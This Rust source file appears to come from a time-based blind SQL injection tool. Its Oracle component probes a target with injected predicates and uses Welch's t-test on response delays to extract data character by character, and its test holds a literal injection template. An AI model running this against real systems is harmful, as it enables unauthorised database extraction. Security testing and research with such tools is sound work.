//! The timing oracle: turns a boolean predicate into a yes/no decision by
//! probing the target under the session's calibrated delay and running the
//! result through Welch's t-test (§4.4).

use std::sync::Arc;

use super::session::{ExtractionSession, TraceStep};

pub struct Oracle {
    session: Arc<ExtractionSession>,
}

impl Oracle {
    pub fn new(session: Arc<ExtractionSession>) -> Self {
        Self { session }
    }

    pub fn session(&self) -> &Arc<ExtractionSession> {
        &self.session
    }

    /// Evaluate `predicate`, without attributing the decision to any
    /// particular extraction position.
    pub async fn evaluate(&self, predicate: &str) -> bool {
        self.evaluate_traced(predicate, None).await
    }

    /// Evaluate `predicate` as part of extracting character `position`; the
    /// decision is recorded against that position in the session trace.
    pub async fn evaluate_at(&self, position: u32, predicate: &str) -> bool {
        self.evaluate_traced(predicate, Some(position)).await
    }

    async fn evaluate_traced(&self, predicate: &str, position: Option<u32>) -> bool {
        let baseline = self.session.baseline().await;
        let payload = self
            .session
            .template
            .instantiate_for_oracle(predicate, self.session.delay_secs);
        let samples = self
            .session
            .probe_many(&payload, self.session.oracle_samples)
            .await;

        let (decision, p_value) = self.session.analyzer.significant(&baseline, &samples);
        tracing::trace!(predicate, decision, p_value, "oracle decision");

        self.session
            .record_trace(TraceStep {
                position: position.unwrap_or(0),
                predicate: predicate.to_string(),
                decision,
                elapsed_samples: samples,
            })
            .await;

        decision
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::timing::payload::PayloadTemplate;
    use crate::timing::stats::TimingAnalyzer;
    use std::time::Duration;
    use url::Url;

    async fn session_with_mock(server: &mockito::ServerGuard) -> Arc<ExtractionSession> {
        let template = PayloadTemplate::parse("' OR ({condition}) -- -").unwrap();
        Arc::new(
            ExtractionSession::new(
                Url::parse(&server.url()).unwrap(),
                "id",
                template,
                0.2,
                TimingAnalyzer::new(0.95, 3),
                3,
                Duration::from_secs(2),
                true,
            )
            .unwrap(),
        )
    }

    #[tokio::test]
    async fn evaluate_records_trace_entry() {
        let mut server = mockito::Server::new_async().await;
        let _m = server
            .mock("GET", mockito::Matcher::Any)
            .with_status(200)
            .create_async()
            .await;

        let session = session_with_mock(&server).await;
        let oracle = Oracle::new(Arc::clone(&session));
        oracle.evaluate_at(1, "1=1").await;

        let trace = session.trace().await;
        assert_eq!(trace.len(), 1);
        assert_eq!(trace[0].position, 1);
    }
}
